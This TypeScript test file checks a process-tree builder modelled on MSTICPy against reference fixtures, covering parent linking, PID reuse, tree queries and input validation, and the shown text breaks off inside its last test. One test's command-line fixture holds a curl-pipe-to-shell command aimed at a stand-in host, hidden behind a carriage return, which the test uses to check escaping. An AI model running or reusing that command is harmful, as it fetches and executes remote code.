/**
 * buildProcessTree and ptree against MSTICPy's builder.
 *
 * Reference fixtures (test/transform/fixtures/ptree-*.json.gz) were made by
 * scripts/make-ptree-fixtures.py, which runs msticpy's own
 * transform/proc_tree_builder.build_process_tree (source at commit
 * cb71514786b0c120cae6196bc0d050c6b40dab05, pandas 1.5.3) on the lab's
 * process_tree and processes_on_host exports. Each fixture row is
 * [proc_key, parent_key, IsRoot, IsLeaf, IsBranch, level, parent row].
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { before, describe, it } from "node:test";
import { gunzipSync } from "node:zlib";
import pl from "nodejs-polars";
import { QueryProvider } from "../../src/data/queryProvider";
import { buildProcessTree, type BuildProcessTreeOptions } from "../../src/transform/processTree";
import { LX_EVENT_SCHEMA, MDE_EVENT_SCHEMA, ProcessSchemaError, WIN_EVENT_SCHEMA, inferSchema } from "../../src/transform/processTreeSchema";
import { ptree } from "../../src/transform/processTreeUtils";
import { generate4688 } from "../helpers/processEvents";

type RefRow = [string | null, string | null, boolean, boolean, boolean, number, number];
const ROOT = join(__dirname, "../..");

function fixture(name: string): RefRow[] {
  return JSON.parse(gunzipSync(readFileSync(join(__dirname, "fixtures", `ptree-${name}.json.gz`))).toString()).rows as RefRow[];
}

function col<T>(df: pl.DataFrame, name: string): T[] {
  return df.getColumn(name).toArray() as unknown as T[];
}

/** The chain of proc_keys from the root to each row, from parent_key links. */
function keyChains(keys: string[], parents: (string | null)[]): Map<string, string[]> {
  const parentOf = new Map(keys.map((k, i) => [k, parents[i]]));
  const out = new Map<string, string[]>();
  for (const k of keys) {
    const chain = [k];
    let p = parentOf.get(k);
    while (p) {
      chain.unshift(p);
      p = parentOf.get(p) ?? null;
    }
    out.set(k, chain);
  }
  return out;
}

const qp = new QueryProvider("LocalData", { dataPaths: [join(ROOT, "data")], queryPaths: [join(ROOT, "data")] });

describe("process schemas", () => {
  it("infers Windows 4688, Linux auditd and MDE layouts from column names", () => {
    assert.equal(inferSchema(["TimeGenerated", "NewProcessName", "NewProcessId", "ProcessId", "ParentProcessName", "SubjectLogonId", "Computer", "EventID"]), WIN_EVENT_SCHEMA);
    assert.equal(inferSchema(["TimeGenerated", "exe", "pid", "ppid", "ses", "cmdline", "EventType", "Computer"]), LX_EVENT_SCHEMA);
    assert.equal(inferSchema(["Timestamp", "FileName", "ProcessId", "InitiatingProcessId", "InitiatingProcessFileName", "DeviceName", "ProcessCommandLine"]), MDE_EVENT_SCHEMA);
    // Fewer than 4 matching columns: no schema (MSTICPy's threshold).
    assert.equal(inferSchema(["TimeGenerated", "NewProcessName", "Account"]), undefined);
  });

  it("says which columns it needs when nothing fits", () => {
    assert.throws(
      () => buildProcessTree(pl.DataFrame({ a: [1], b: [2] })),
      (e: Error) => e instanceof ProcessSchemaError && e.code === "transform/process-schema-unknown" && /NewProcessName/.test(e.message) && /schema/.test(e.message),
    );
    assert.throws(
      () => buildProcessTree(pl.DataFrame({ a: [1] }), { schema: { processName: "a", processId: "b", parentId: "c", timeStamp: "d" } }),
      { code: "transform/process-column-missing", message: /"b", "c", "d"/ },
    );
  });
});

describe("buildProcessTree on the lab's process_tree (MSTICPy reference)", () => {
  let tree: pl.DataFrame;
  before(async () => {
    tree = buildProcessTree(await qp.WindowsSecurity.get_process_tree());
  });

  it("agrees with MSTICPy on every key, parent, flag, level and path", () => {
    const ref = fixture("process_tree");
    assert.equal(tree.height, ref.length); // 17 events + 1 inferred parent
    const keys = col<string>(tree, "proc_key");
    const parents = col<string | null>(tree, "parent_key");
    const row = new Map(keys.map((k, i) => [k, i]));
    const refChains = keyChains(ref.map((r) => r[0] as string), ref.map((r) => r[1]));
    const ourChains = keyChains(keys, parents);
    const paths = col<string>(tree, "path");
    const src = col<string>(tree, "source_index");
    const bySource = new Map(src.map((s, i) => [s, keys[i]]));
    const flags = { IsRoot: col<boolean>(tree, "IsRoot"), IsLeaf: col<boolean>(tree, "IsLeaf"), IsBranch: col<boolean>(tree, "IsBranch"), Level: col<number>(tree, "Level") };
    for (const r of ref) {
      const i = row.get(r[0] as string);
      assert.ok(i !== undefined, `missing ${r[0]}`);
      assert.equal(parents[i], r[1]);
      assert.deepEqual([flags.IsRoot[i], flags.IsLeaf[i], flags.IsBranch[i]], [r[2], r[3], r[4]]);
      assert.equal(flags.Level[i], r[5]);
      // path = the source_index of every process from the root down
      assert.deepEqual(paths[i].split("/").map((s) => bySource.get(s)), refChains.get(r[0] as string));
      assert.deepEqual(ourChains.get(r[0] as string), refChains.get(r[0] as string));
    }
  });

  it("pins the documented keys (MSTICPY-NOTES §4.2, §4.3)", () => {
    const keys = col<string>(tree, "proc_key");
    assert.ok(keys.includes("c:\\windows\\system32\\cmd.exe|0x12f4|2019-02-14 11:51:37.687000"));
    const roots = ptree.getRoots(tree);
    assert.deepEqual(col(roots, "proc_key"), ["c:\\windows\\system32\\svchost.exe|0x498|1970-01-01 00:00:00.000000"]);
    assert.deepEqual(col(roots, "IsInferred"), [true]);
    assert.deepEqual(col(roots, "TimeGenerated"), [null]);
    assert.deepEqual(col(roots, "NewProcessName"), ["C:\\Windows\\System32\\svchost.exe"]);
    // The stale NodeRole/Level input columns of the lab file are replaced.
    assert.deepEqual(col(tree.filter(pl.col("IsBranch")), "NodeRole"), ["branch"]);
    assert.deepEqual(ptree.getSummaryInfo(tree), {
      Processes: 18,
      RootProcesses: 1,
      LeafProcesses: 16,
      BranchProcesses: 1,
      IsolatedProcesses: 0,
      LargestTreeDepth: 3,
      InferredProcesses: 1,
    });
  });

  it("answers tree queries", () => {
    const root = ptree.getRoots(tree).head(1);
    const all = ptree.getDescendents(tree, root);
    assert.equal(all.height, 18);
    assert.equal(ptree.getDescendents(tree, root, { includeSource: false }).height, 17);
    assert.equal(ptree.getDescendents(tree, root, { maxLevels: 1 }).height, 2);
    const cmd = "c:\\windows\\system32\\cmd.exe|0x12f4|2019-02-14 11:51:37.687000";
    assert.equal(ptree.getChildren(tree, cmd).height, 16);
    assert.equal(ptree.getChildren(tree, cmd, { includeSource: true }).getColumn("proc_key").get(0), cmd);
    assert.deepEqual(col(ptree.getParent(tree, cmd), "proc_key"), col(root, "proc_key"));
    assert.equal(ptree.getParent(tree, root).height, 0);
    const leaf = tree.filter(pl.col("Level").eq(3)).head(1);
    assert.deepEqual(col(ptree.getAncestors(tree, leaf), "Level"), [1, 2, 3]);
    assert.equal(ptree.getSiblings(tree, leaf).height, 15);
    assert.equal(ptree.getSiblings(tree, { proc_key: leaf.getColumn("proc_key").get(0) as string }, { includeSource: true }).height, 16);
    assert.equal(ptree.getTreeDepth(tree), 3);
    assert.throws(() => ptree.getChildren(tree, "nope|0x1|x"), { name: "ProcessTreeQueryError", code: "transform/process-not-found", message: /"nope\|0x1\|x"/ });
    const text = ptree.treeToText(tree);
    assert.match(text.split("\n")[0], /^C:\\Windows\\System32\\svchost\.exe \[0x498\] \(inferred\)$/);
    assert.match(text.split("\n")[1], /^ {4}\+-- C:\\Windows\\System32\\cmd\.exe \[0x12f4\]/);
    assert.equal(text.split("\n").length, 18);
  });
});

describe("buildProcessTree on the lab's processes_on_host (MSTICPy reference)", () => {
  let tree: pl.DataFrame;
  let ref: RefRow[];
  before(async () => {
    tree = buildProcessTree(await qp.execQuery("processes_on_host.parquet"));
    ref = fixture("processes_on_host");
  });

  it("keeps every process MSTICPy keeps, plus the ones it drops on key clashes", () => {
    // 22,979 rows − 8 exact duplicates = 22,971 events, + 22 inferred parents.
    assert.equal(tree.height, 22_993);
    // MSTICPy keeps 22,477: it drops 516 distinct processes whose name|pid|minute
    // key clashes with another's (the export's times have minute resolution).
    assert.equal(ref.length, 22_477);
    const keys = col<string>(tree, "proc_key");
    assert.equal(keys.filter((k) => /#\d+$/.test(k)).length, 516);
    assert.equal(new Set(keys).size, keys.length);
    const base = new Set(keys.map((k) => k.replace(/#\d+$/, "")));
    for (const r of ref) if (r[0] !== null) assert.ok(base.has(r[0]), `missing ${r[0]}`);
  });

  it("links every process to MSTICPy's parent, except the two with no parent name (deliberate)", () => {
    const keys = col<string>(tree, "proc_key");
    const parents = col<string | null>(tree, "parent_key");
    const strip = (k: string | null): string | null => (k === null ? null : k.replace(/#\d+$/, ""));
    // Where keys clash MSTICPy keeps an arbitrary row (unstable sort), so its
    // parent must be the parent of one of our processes with that key.
    const parentsOf = new Map<string, Set<string | null>>();
    keys.forEach((k, i) => {
      const b = strip(k) as string;
      if (!parentsOf.has(b)) parentsOf.set(b, new Set());
      parentsOf.get(b)?.add(strip(parents[i]));
    });
    const differ = ref.filter((r) => r[0] !== null && !parentsOf.get(r[0])?.has(r[1])).map((r) => [r[0], r[1], [...(parentsOf.get(r[0] as string) ?? [])]]);
    // smss.exe started by System (pid 4) has a null ParentProcessName: MSTICPy
    // leaves it without a parent and adds a root with a null key; we treat a
    // null name like an empty one ("unknown", MSTICPy's own rule for "").
    assert.deepEqual(differ, [
      ["c:\\windows\\system32\\smss.exe|0x114|2019-02-12 04:39:00.000000", null, ["unknown|0x4|1970-01-01 00:00:00.000000"]],
      ["c:\\windows\\system32\\smss.exe|0x130|2019-02-14 04:20:00.000000", null, ["unknown|0x4|1970-01-01 00:00:00.000000"]],
    ]);
  });

  it("has MSTICPy's roots (bar the null-name case) and its levels wherever the ancestry is unambiguous", () => {
    const roots = col<string>(ptree.getRoots(tree), "proc_key").sort();
    const refRoots = ref.filter((r) => r[2]).map((r) => r[0]);
    assert.equal(refRoots.length, 24);
    const expected = refRoots.filter((k): k is string => k !== null && !k.startsWith("c:\\windows\\system32\\smss.exe|0x1") || (k !== null && k.includes("1970"))).concat(["unknown|0x4|1970-01-01 00:00:00.000000"]).sort();
    assert.deepEqual(roots, expected);
    assert.equal(roots.length, 22);
    const keys = col<string>(tree, "proc_key");
    const levels = col<number>(tree, "Level");
    const ours = new Map(keys.map((k, i) => [k, levels[i]]));
    const clashing = new Set(keys.filter((k) => /#\d+$/.test(k)).map((k) => k.replace(/#\d+$/, "")));
    let compared = 0;
    for (const [index, r] of ref.entries()) {
      if (r[0] === null) continue;
      // Walk MSTICPy's ancestry; skip rows below a clashing key (its choice of row is arbitrary).
      let shift = 0;
      let ok = true;
      for (let at: number = index, guard = 0; at >= 0 && guard < 1000; guard += 1) {
        const a = ref[at];
        if (a[0] === null || clashing.has(a[0])) {
          ok = false;
          break;
        }
        if (a[6] < 0 && a[0].startsWith("c:\\windows\\system32\\smss.exe|") && !a[0].includes("1970")) shift = 1;
        at = a[6];
      }
      if (!ok) continue;
      compared += 1;
      assert.equal(ours.get(r[0]), r[5] + shift, r[0]);
    }
    assert.ok(compared > 16_000, `compared ${compared}`);
  });
});

describe("buildProcessTree rules", () => {
  const t = (s: string): Date => new Date(`2024-01-01T${s}Z`);
  const base = {
    EventID: [4688, 4688, 4688, 4688, 4688, 4688],
    Computer: ["h1", "h1", "h1", "h1", "h2", "h1"],
    SubjectLogonId: ["0x1", "0x1", "0x1", "0x1", "0x1", "0x1"],
    TargetLogonId: ["0x0", "0x0", "0x0", "0x99", "0x0", "0x0"],
  };

  /** b.exe (twice: the same event exported twice) under a.exe under a missing root.exe, and a 4624 row. */
  const chainWithRepeats = () =>
    pl.DataFrame({
      EventID: [4688, 4688, 4624, 4688],
      TimeGenerated: [t("10:00:00"), t("10:00:00"), t("10:00:00"), t("09:00:00")],
      Computer: ["h", "h", "h", "h"],
      NewProcessId: ["0x2", "0x2", "0x9", "0x1"],
      NewProcessName: ["b.exe", "b.exe", "x.exe", "a.exe"],
      ProcessId: ["0x1", "0x1", "0x1", "0x0"],
      ParentProcessName: ["a.exe", "a.exe", "a.exe", "root.exe"],
      SubjectLogonId: ["0x1", "0x1", "0x1", "0x1"],
    });

  it("links to the latest earlier process with the parent's id and image on the same host (PID reuse)", () => {
    const df = pl.DataFrame({
      ...base,
      TimeGenerated: [t("10:00:00"), t("10:00:01"), t("10:05:00"), t("10:05:01"), t("10:05:02"), t("10:06:00")],
      NewProcessId: ["0x10", "0x20", "0x10", "0x30", "0x40", "0x50"],
      NewProcessName: ["C:\\a\\cmd.exe", "C:\\a\\x.exe", "C:\\a\\cmd.exe", "C:\\a\\y.exe", "C:\\a\\z.exe", "C:\\a\\w.exe"],
      ProcessId: ["0x1", "0x10", "0x1", "0x10", "0x10", "0x10"],
      ParentProcessName: ["C:\\a\\svc.exe", "C:\\a\\CMD.EXE", "C:\\a\\svc.exe", "C:\\a\\cmd.exe", "C:\\a\\cmd.exe", "C:\\a\\other.exe"],
    });
    const tree = buildProcessTree(df);
    const parentOf = (name: string): string | null => tree.filter(pl.col("NewProcessName").eq(pl.lit(name))).getColumn("parent_key").get(0) as string | null;
    assert.equal(parentOf("C:\\a\\x.exe"), "c:\\a\\cmd.exe|0x10|2024-01-01 10:00:00.000000"); // case-insensitive image
    assert.equal(parentOf("C:\\a\\y.exe"), "c:\\a\\cmd.exe|0x10|2024-01-01 10:05:00.000000"); // the reused PID's newer process
    // z.exe on host h2: no cmd.exe 0x10 there → an inferred parent on h2
    assert.equal(parentOf("C:\\a\\z.exe"), "c:\\a\\cmd.exe|0x10|1970-01-01 00:00:00.000000");
    // w.exe names another image for PID 0x10 → its own inferred parent (image kept as the child names it)
    assert.equal(parentOf("C:\\a\\w.exe"), "c:\\a\\other.exe|0x10|1970-01-01 00:00:00.000000");
    const inferred = tree.filter(pl.col("IsInferred"));
    // svc.exe 0x1 (shared by both cmd.exe), cmd.exe 0x10 on h2, other.exe 0x10
    assert.deepEqual(col<string>(inferred, "NewProcessName").sort(), ["C:\\a\\cmd.exe", "C:\\a\\other.exe", "C:\\a\\svc.exe"]);
    assert.deepEqual(col<string>(inferred.filter(pl.col("NewProcessName").eq(pl.lit("C:\\a\\cmd.exe"))), "Computer"), ["h2"]);
    assert.ok(col<boolean>(inferred, "IsRoot").every(Boolean));
    // EffectiveLogonId: the target logon when there is one.
    assert.equal(tree.filter(pl.col("NewProcessName").eq(pl.lit("C:\\a\\y.exe"))).getColumn("EffectiveLogonId").get(0), "0x99");
    // Paths and levels
    const y = tree.filter(pl.col("NewProcessName").eq(pl.lit("C:\\a\\y.exe")));
    assert.equal(y.getColumn("Level").get(0), 3);
    // svc.exe 0x1, the first inferred parent, is numbered after the 6 input rows
    assert.equal(y.getColumn("path").get(0), "00006/00002/00003");
  });

  it("drops exact duplicates and non-4688 rows, and orders rows as a tree", () => {
    const tree = buildProcessTree(chainWithRepeats());
    assert.deepEqual(col(tree, "NewProcessName"), ["root.exe", "a.exe", "b.exe"]);
    assert.deepEqual(col(tree, "Level"), [1, 2, 3]);
    assert.deepEqual(col(tree, "NodeRole"), ["root", "branch", "leaf"]);
    assert.deepEqual(col(tree, "source_index"), ["00004", "00003", "00000"]);
  });

  it("keeps the events' order with order: \"input\", the same rows and values otherwise; the tree queries answer the same on it", async () => {
    const small = chainWithRepeats();
    const flat = buildProcessTree(small, { order: "input" });
    assert.deepEqual(col(flat, "NewProcessName"), ["b.exe", "a.exe", "root.exe"], "events as given (duplicate and 4624 dropped), the inferred parent last");
    assert.deepEqual(col(flat, "source_index"), ["00000", "00003", "00004"]);
    assert.deepEqual(col(flat, "parent_key"), col(flat, "proc_key").slice(1).concat([null]), "each one's parent is the next row");
    assert.throws(() => buildProcessTree(small, { order: "Input" as "input" }), { name: "ProcessTreeError", code: "transform/process-tree-option", message: /order must be "tree" or "input" \(got "Input"\)/ });
    assert.throws(() => buildProcessTree(small, { creationTimeToleranceMs: -1 }), { code: "transform/process-tree-option", message: /creationTimeToleranceMs/ });
    // A misspelt option was ignored (the tree order used, silently): it is named, with the option meant.
    assert.throws(() => buildProcessTree(small, { Order: "input" } as BuildProcessTreeOptions), {
      name: "ProcessTreeError",
      code: "transform/process-tree-option",
      message: "buildProcessTree: unknown option Order (did you mean order?); its options are schema, creationTimeToleranceMs, order, warn.",
    });
    assert.throws(() => buildProcessTree(small, { creationTimeTolerance: 5 } as BuildProcessTreeOptions), { message: /unknown option creationTimeTolerance \(did you mean creationTimeToleranceMs\?\)/ });
    assert.equal(buildProcessTree(small, { order: "input", schema: undefined }).height, 3, "an option set to undefined is absent");
    // From untyped cells (Deno, JavaScript): options or a schema that is no object is named, not a TypeError from inside.
    for (const options of [null, "input", ["order"]]) {
      assert.throws(() => buildProcessTree(small, options as unknown as BuildProcessTreeOptions), {
        name: "ProcessTreeError",
        code: "transform/process-tree-option",
        message: /^buildProcessTree: its options must be an object of schema, creationTimeToleranceMs, order, warn \(got (null|"input"|an array)\)\.$/,
      });
    }
    for (const schema of ["Sysmon", null, ["NewProcessName"]]) {
      assert.throws(() => buildProcessTree(small, { schema } as unknown as BuildProcessTreeOptions), { name: "ProcessTreeError", code: "transform/process-tree-option", message: /option schema must be an object naming columns/ });
    }
    const byIndex = (df: pl.DataFrame) => df.sort(pl.col("source_index").cast(pl.Int64));
    for (const events of [await qp.execQuery("processes_on_host.parquet"), generate4688(5000, { seed: 7, pidPool: 600 }).df]) {
      const inTree = buildProcessTree(events);
      const inInput = buildProcessTree(events, { order: "input" });
      assert.ok(byIndex(inTree).frameEqual(inInput), "the input-order tree is the tree-order one sorted back by source_index");
      assert.notDeepEqual(col(inInput, "source_index"), col(inTree, "source_index"), "the orders differ on these events");
      const all = { maxLines: 1e6 };
      assert.equal(ptree.treeToText(inInput, all), ptree.treeToText(inInput.sort("path"), all), "treeToText draws from the links: children under their parent, whatever the row order");
      const keysOf = (df: pl.DataFrame) => col<string>(df, "proc_key").sort();
      const keys = col<string>(inTree, "proc_key");
      const levels = col<number>(inTree, "Level");
      for (const root of col<string>(ptree.getRoots(inTree), "proc_key").slice(0, 25)) {
        assert.deepEqual(keysOf(ptree.getDescendents(inInput, root)), keysOf(ptree.getDescendents(inTree, root)), "tree queries read links, not row order");
        // In a tree as built, a root's descendants are the rows after it down to the next row as high as it, in row order.
        const at = keys.indexOf(root);
        let end = at + 1;
        while (end < keys.length && levels[end] > levels[at]) end += 1;
        assert.deepEqual(col(ptree.getDescendents(inTree, root), "proc_key"), keys.slice(at, end));
      }
      // Chains up: root first, the same in either row order (the root was the process itself, upside down, in input order).
      for (const leaf of col<string>(inTree.filter(pl.col("IsLeaf").and(pl.col("Level").gt(2))), "proc_key").slice(0, 25)) {
        const up = col<string>(ptree.getAncestors(inTree, leaf), "proc_key");
        assert.deepEqual(col(ptree.getAncestors(inInput, leaf), "proc_key"), up);
        assert.equal(up.at(-1), leaf);
        assert.deepEqual(col(ptree.getRoot(inInput, leaf), "proc_key"), [up[0]]);
        assert.deepEqual(col(ptree.getRoot(inInput, leaf), "IsRoot"), [true]);
        assert.deepEqual(keysOf(ptree.getRootTree(inInput, leaf)), keysOf(ptree.getRootTree(inTree, leaf)));
      }
    }
    // A tree the user sorted: the same answers.
    const tree = buildProcessTree(small);
    const sorted = tree.sort("Level", true);
    const leaf = col<string>(tree, "proc_key")[2];
    assert.deepEqual(col(ptree.getRoot(sorted, leaf), "proc_key"), col(tree, "proc_key").slice(0, 1));
    assert.deepEqual(col(ptree.getAncestors(sorted, leaf), "Level"), [1, 2, 3]);
    assert.deepEqual(col(ptree.getAncestors(sorted, leaf, { includeSource: false }), "Level"), [1, 2]);
    assert.deepEqual(col(ptree.getRootTree(sorted, leaf), "proc_key"), col(tree, "proc_key"), "depth first from the root");
    assert.deepEqual(col(ptree.getDescendents(sorted, col<string>(tree, "proc_key")[0], { maxLevels: 1, includeSource: false }), "Level"), [2]);
  });

  it("builds Linux auditd trees by pid alone", () => {
    const df = pl.DataFrame({
      TimeGenerated: ["2024-01-01 10:00:00", "2024-01-01 10:00:01", "2024-01-01 10:00:02"],
      Computer: ["l", "l", "l"],
      EventType: ["SYSCALL_EXECVE", "SYSCALL_EXECVE", "SYSCALL_EXECVE"],
      exe: ["/bin/bash", "/usr/bin/curl", "/bin/sh"],
      pid: [100, 101, 102],
      ppid: [1, 100, 100],
      cmdline: ["bash", "curl x", "sh -c y"],
      ses: [3, 3, 3],
    });
    const tree = buildProcessTree(df);
    assert.deepEqual(col(tree, "proc_key"), ["unknown|1|1970-01-01 00:00:00.000000", "/bin/bash|100|2024-01-01 10:00:00.000000", "/usr/bin/curl|101|2024-01-01 10:00:01.000000", "/bin/sh|102|2024-01-01 10:00:02.000000"]);
    assert.deepEqual(col(tree, "Level"), [1, 2, 3, 3]);
  });

  it("reads epoch times given numericTimeUnit: fractions kept, and numbers written as text (osquery, Falcon JSON)", () => {
    const schema = { name: "raw", processName: "exe", processId: "pid", parentId: "ppid", timeStamp: "ts", pathSeparator: "/", numericTimeUnit: "s" as const };
    // pid 200 runs bash, then execs curl at .700: id (.400) is bash's child, not curl's (cut to whole seconds, all three were at 10:00:00).
    const events = { exe: ["/bin/bash", "/usr/bin/curl", "/usr/bin/id"], pid: [200, 200, 300], ppid: [100, 100, 200] };
    const want = ["unknown|100|1970-01-01 00:00:00.000000", "/bin/bash|200|2024-03-01 10:00:00.100000", "/usr/bin/id|300|2024-03-01 10:00:00.400000", "/usr/bin/curl|200|2024-03-01 10:00:00.700000"];
    const float = buildProcessTree(pl.DataFrame({ ts: [1709287200.1, 1709287200.7, 1709287200.4], ...events }), { schema });
    assert.deepEqual(col(float, "proc_key"), want);
    assert.equal(float.filter(pl.col("exe").eq(pl.lit("/usr/bin/id"))).getColumn("parent_key").get(0), want[1]);
    const text = buildProcessTree(pl.DataFrame({ ts: ["1709287200.1", "1709287200.7", "1709287200.4"], ...events }), { schema });
    assert.deepEqual(col(text, "proc_key"), want);
    const ms = buildProcessTree(pl.DataFrame({ ts: ["1709287200100", "1709287200700", "1709287200400"], ...events }), { schema: { ...schema, numericTimeUnit: "ms" } });
    assert.deepEqual(col(ms, "proc_key"), want);
  });

  it("treeToText writes Int64 process ids past 2^53 exactly (Falcon's ids; toArray's doubles rounded them)", () => {
    const schema = { name: "raw", processName: "exe", processId: "pid", parentId: "ppid", timeStamp: "ts", pathSeparator: "/" };
    const ids = ["9007199254740993", "9007199254740995"];
    const df = pl.DataFrame({
      ts: [new Date("2024-03-01T10:00:00Z"), new Date("2024-03-01T10:00:01Z")],
      exe: ["/bin/bash", "/usr/bin/id"],
      pid: pl.Series("pid", ids).cast(pl.Int64),
      ppid: pl.Series("ppid", ["1", ids[0]]).cast(pl.Int64),
    });
    const text = ptree.treeToText(buildProcessTree(df, { schema }));
    for (const id of ids) assert.ok(text.includes(`[${id}]`), text);
  });

  it("treeToText shows a line break or carriage return in a command line as an escape (it was a space), spaces and tabs as one space", () => {
    const schema = { name: "raw", processName: "exe", processId: "pid", parentId: "ppid", timeStamp: "ts", cmdLine: "cmd", pathSeparator: "/" };
    const df = pl.DataFrame({
      ts: [new Date("2024-03-01T10:00:00Z"), new Date("2024-03-01T10:00:01Z")],
      exe: ["/bin/bash", "/usr/bin/id"],
      pid: [10, 11],
      ppid: [1, 10],
      cmd: ["bash  \t -c", "echo safe\rcurl evil.example | sh\nx"],
    });
    const lines = ptree.treeToText(buildProcessTree(df, { schema })).split("\n");
    assert.ok(lines.some((l) => l.endsWith("  bash -c")), lines.join("\n"));
    assert.ok(lines.some((l) => l.endsWith("  echo safe\\rcurl evil.example | sh\\nx")), lines.join("\n"));
  });

  it("treeToText labels each process from the schema the tree was built with (custom, ECS), not its proc_key", () => {
    const custom = pl.DataFrame({ t: ["2024-01-01 10:00:00", "2024-01-01 10:00:01"], img: ["/a", "/b"], p: [1, 2], pp: [0, 1], cl: ["a -x", "b  -y"] });
    const tree = buildProcessTree(custom, { schema: { processName: "img", processId: "p", parentId: "pp", timeStamp: "t", cmdLine: "cl" } });
    assert.equal(ptree.treeToText(tree), ["unknown [0] (inferred)", "    +-- /a [1]  a -x", "        +-- /b [2]  b -y"].join("\n"));
    const ecs = pl.DataFrame({
      "@timestamp": ["2024-01-01T10:00:00Z", "2024-01-01T10:00:01Z"],
      "process.executable": ["/bin/bash", "/usr/bin/curl"],
      "process.pid": [100, 101],
      "process.parent.pid": [1, 100],
      "process.parent.executable": ["/sbin/init", "/bin/bash"],
      "process.command_line": ["bash", "curl http://x"],
      "event.type": ["start", "start"],
      "event.category": ["process", "process"],
      "host.name": ["h", "h"],
    });
    const built = buildProcessTree(ecs);
    const expected = ["/sbin/init [1] (inferred)", "    +-- /bin/bash [100]  bash", "        +-- /usr/bin/curl [101]  curl http://x"].join("\n");
    assert.equal(ptree.treeToText(built), expected);
    // A frame derived from the tree (not the one built) is labelled from the schema its columns fit.
    assert.equal(ptree.treeToText(built.filter(pl.lit(true))), expected);
    assert.equal(ptree.treeToText(built, { nameColumn: "process.parent.executable", cmdColumn: "host.name" }).split("\n")[1], "    +-- /sbin/init [100]  h", "given columns win");
  });

  it("a time column with no time at all (null or blank everywhere) builds as partly empty ones do: NaT keys, links by id", () => {
    for (const times of [[null, null], ["", "  "]]) {
      const df = pl.DataFrame({
        TimeGenerated: pl.Series("TimeGenerated", times, pl.Utf8),
        Computer: ["H", "H"],
        NewProcessName: ["C:\\a.exe", "C:\\b.exe"],
        NewProcessId: ["0x10", "0x20"],
        ParentProcessName: ["C:\\r.exe", "C:\\a.exe"],
        ProcessId: ["0x1", "0x10"],
        EventID: [4688, 4688],
      });
      const tree = buildProcessTree(df);
      assert.deepEqual(col(tree, "proc_key"), ["c:\\r.exe|0x1|1970-01-01 00:00:00.000000", "c:\\a.exe|0x10|NaT", "c:\\b.exe|0x20|NaT"], JSON.stringify(times));
      assert.deepEqual(col(tree, "Level"), [1, 2, 3]);
    }
  });

  it("an all-null column of polars' Null type (NDJSON never filled in) builds the tree an all-null text column builds", () => {
    // NDJSON export where NewProcessName and the command line were never filled in: polars reads them as dtype Null.
    const ndjson = [
      { EventID: 4688, TimeGenerated: "2024-01-01T00:00:00Z", Computer: "h", NewProcessId: "0x10", ProcessId: "0x4", NewProcessName: null, ParentProcessName: "C:\\a.exe", CommandLine: null },
      { EventID: 4688, TimeGenerated: "2024-01-01T00:00:01Z", Computer: "h", NewProcessId: "0x11", ProcessId: "0x10", NewProcessName: null, ParentProcessName: "C:\\b.exe", CommandLine: null },
    ];
    const df = pl.readJSON(Buffer.from(ndjson.map((r) => JSON.stringify(r)).join("\n")), { format: "lines" });
    assert.equal(df.getColumn("NewProcessName").dtype.variant, "Null");
    const asText = df.withColumns(pl.col("NewProcessName").cast(pl.Utf8), pl.col("CommandLine").cast(pl.Utf8));
    const expected = buildProcessTree(asText);
    const tree = buildProcessTree(df);
    for (const c of ["proc_key", "parent_key", "path", "Level", "IsInferred", "NewProcessName"]) assert.deepEqual(col(tree, c), col(expected, c), c);
    assert.equal(ptree.treeToText(tree), ptree.treeToText(expected));
    // MDE: a Null-typed command line and folder path (columns the rebuilt parents are written into) build too.
    const mde = pl.DataFrame({
      Timestamp: [t("10:00:00"), t("10:00:01")],
      DeviceName: ["d", "d"],
      ActionType: ["ProcessCreated", "ProcessCreated"],
      FileName: ["powershell.exe", "whoami.exe"],
      FolderPath: ["C:\\w\\powershell.exe", "C:\\w\\whoami.exe"],
      ProcessId: [500, 501],
      InitiatingProcessId: [400, 500],
      InitiatingProcessFileName: ["explorer.exe", "powershell.exe"],
      InitiatingProcessFolderPath: ["C:\\w\\explorer.exe", "C:\\w\\powershell.exe"],
      ProcessCommandLine: ["powershell", "whoami"],
      InitiatingProcessCommandLine: ["explorer", "powershell"],
    });
    const nulled = mde.withColumns(pl.lit(null).alias("ProcessCommandLine"), pl.lit(null).alias("FolderPath"));
    assert.deepEqual(col(buildProcessTree(nulled), "parent_key"), col(buildProcessTree(mde), "parent_key"));
  });

  it("a key column of a type a tree cannot read (list, struct, duration, boolean) is a ProcessTreeError naming it, its type and what it takes", () => {
    const events = pl.DataFrame({
      EventID: [4688, 4688],
      TimeGenerated: ["2024-01-01T00:00:00Z", "2024-01-01T00:00:01Z"],
      Computer: ["h", "h"],
      NewProcessName: ["C:\\a.exe", "C:\\b.exe"],
      NewProcessId: ["0x10", "0x11"],
      ProcessId: ["0x4", "0x10"],
      ParentProcessName: ["C:\\r.exe", "C:\\a.exe"],
      SubjectLogonId: ["0x3e7", "0x3e7"],
    });
    const cases: [string, string, pl.Expr, string, string][] = [
      ["NewProcessId", "processId", pl.concatList([pl.col("NewProcessId"), pl.lit("x")]), "List", "text or integers"],
      ["ProcessId", "parentId", pl.struct([pl.col("ProcessId").alias("a"), pl.lit("b").alias("b")]), "Struct", "text or integers"],
      ["NewProcessId", "processId", pl.lit(1000).cast(pl.Duration("ms")), "Duration", "text or integers"],
      ["NewProcessName", "processName", pl.lit(true), "Bool", "text"],
      // A list of one value per row is that value (an API's `process_pid: [2976]`): two make no image.
      ["ParentProcessName", "parentName", pl.concatList([pl.col("ParentProcessName"), pl.lit("C:\\x.exe")]), "List", "text"],
      ["Computer", "hostName", pl.struct([pl.col("Computer").alias("name")]), "Struct", "text or integers"],
      ["SubjectLogonId", "logonId", pl.lit(false), "Bool", "text or integers"],
    ];
    for (const [column, field, expr, dtype, takes] of cases) {
      assert.throws(
        () => buildProcessTree(events.withColumns(expr.alias(column))),
        (e: Error & { code?: string }) => {
          assert.equal(e.name, "ProcessTreeError", e.message);
          assert.equal(e.code, "transform/process-column-type");
          for (const part of [`"${column}"`, field, dtype, takes]) assert.ok(e.message.includes(part), `${column}: ${part} in ${e.message}`);
          return true;
        },
      );
    }
    // Integer ids, and float ones (CSV's integer column with a null), still build.
    const numeric = events.withColumns(pl.Series("NewProcessId", [16, 17], pl.Int64), pl.Series("ProcessId", [4, 16], pl.Float64));
    assert.deepEqual(col(buildProcessTree(numeric), "Level"), [1, 2, 3]);
  });

  it("a Decimal(38,0) id, parent id or logon id column (Spark's 128-bit ids) builds the tree the same ids as text or Int64 build, past 2^53 exactly; a scale > 0 Decimal is refused", () => {
